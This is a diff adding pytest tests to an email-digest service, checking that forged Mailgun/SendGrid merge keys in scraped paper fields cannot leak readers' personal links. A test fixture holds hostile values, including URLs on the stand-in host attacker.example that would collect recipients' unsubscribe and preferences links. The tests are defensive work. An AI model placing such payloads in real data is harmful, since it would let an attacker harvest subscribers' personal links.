@@ -263,3 +263,75 @@ def test_send_digests_command_can_hand_the_work_to_the_workers(mailgun_worker, t
     call_command("send_digests", "--all", "--workers", "--timeout", "60", stdout=out)
     assert re.match(r"due=12 sent=12 skipped=0 failed=0 still_open=0 seconds=", out.getvalue())
     assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers)
+
+
+# --- merge-field forgery (issue 8, finding 1) ----------------------------------------------
+
+def hostile_paper():
+    """A paper as stored by an older parser (or by hand): merge keys of both providers, in
+    any case, in its URLs and its text. Every reader's digest holds it (all topics)."""
+    return dict(
+        arxiv_id="2611.00009", upvotes=500, authors=["Eve %Recipient.Unsubscribe_Url%"],
+        title="Agents %RECIPIENT.PREFERENCES_URL% {{unsubscribe_url}}",
+        ai_summary="See -view_url- and %recipient.unsubscribe_url% and %recipient.h:List-Unsubscribe%",
+        github_repo="https://attacker.example/collect?p=%recipient.preferences_url%&u=%RECIPIENT.UNSUBSCRIBE_URL%",
+        project_page="https://attacker.example/p?v=%Recipient.view_url%",
+        topics={"agents": 9.5, "code": 9.5, "multimodal": 9.5},
+    )
+
+
+@pytest.mark.parametrize("provider", ["mailgun", "sendgrid"])
+def test_forged_merge_keys_in_scraped_fields_reach_no_reader(transactional_db, request, provider, topics, make_scrape):
+    worker = request.getfixturevalue(f"{provider}_worker")  # (transactional_db first: the worker sees our rows)
+    fake = worker.fake
+    make_scrape([hostile_paper(), *papers()])
+    readers = make_readers(topics, 5, prefix=f"forged-{provider}")
+    dispatch.dispatch(ignore_hour=True)
+    wait_settled()
+
+    # Everybody still gets their digest, in shared batch calls...
+    assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers), worker.output()[-3000:]
+    assert len(fake.calls) == 5 and {c.answer for c in fake.calls} <= {200, 202}
+    for message in fake.accepted:
+        everything = "\n".join([message.subject, message.text, message.html, *message.headers.values()])
+        # ... with no link to the attacker's host, whatever it was made of ...
+        assert "attacker.example" not in everything
+        # ... no personal link where the paper's text was ...
+        assert "testserver" not in message.subject
+        # ... and the paper's text shown as it was written (a zero-width space is invisible).
+        visible = everything.replace("\u200b", "")
+        assert "Agents %RECIPIENT.PREFERENCES_URL% {{unsubscribe_url}}" in message.subject.replace("\u200b", "")
+        for written in ("-view_url-", "%recipient.unsubscribe_url%", "%recipient.h:List-Unsubscribe%", "Eve %Recipient.Unsubscribe_Url%"):
+            assert written in visible
+    assert set(Delivery.objects.values_list("status", flat=True)) == {S.SENT}
+
+
+def test_a_merge_key_the_templates_did_not_put_there_stops_the_batch_call(digest_workers, fake_mailgun, topics, make_scrape):
+    """The last line of defence: whatever carried it in (here an operator's postal address),
+    a merge key the templates did not insert stops the call before the provider sees it."""
+    worker = digest_workers({
+        "TEST_EMAIL_BACKEND": "anymail.backends.mailgun.EmailBackend", **fake_mailgun.env(),
+        "SENDER_POSTAL_ADDRESS": "1 Example Street, %RECIPIENT.PREFERENCES_URL%", "ADMINS": "ops@example.org",
+    })
+    make_scrape(papers())
+    readers = make_readers(topics, 10, prefix="guarded")
+    dispatch.dispatch(ignore_hour=True)
+    wait_settled()
+
+    digests = [m for m in fake_mailgun.accepted if m.to != "ops@example.org"]
+    assert digests == [], [m.text[-300:] for m in digests]
+    # Failed, not retried: the same content would be refused again. Not the readers' fault:
+    # no soft bounce, nobody suppressed.
+    assert Counter(Delivery.objects.values_list("status", flat=True)) == {S.FAILED: 10}
+    assert all("merge key" in error for error in Delivery.objects.values_list("error", flat=True))
+    assert set(Subscriber.objects.filter(pk__in=[r.pk for r in readers]).values_list("status", "soft_bounces")) == {
+        (Subscriber.Status.ACTIVE, 0)
+    }
+    output = worker.output()
+    assert output.count("event=digest.merge_keys_refused") == 5, output[-3000:]  # one per distinct digest
+    assert "unexpected=%recipient.preferences_url%*2\n" in output  # the footer of both parts
+    # The admins hear of it once (not once per digest or chunk), without a key a provider
+    # would fill in.
+    [alert] = [m for m in fake_mailgun.accepted if m.to == "ops@example.org"]
+    assert "merge key" in alert.subject
+    assert "%\u200brecipient.preferences_url%" in alert.text and "testserver/preferences" not in alert.text
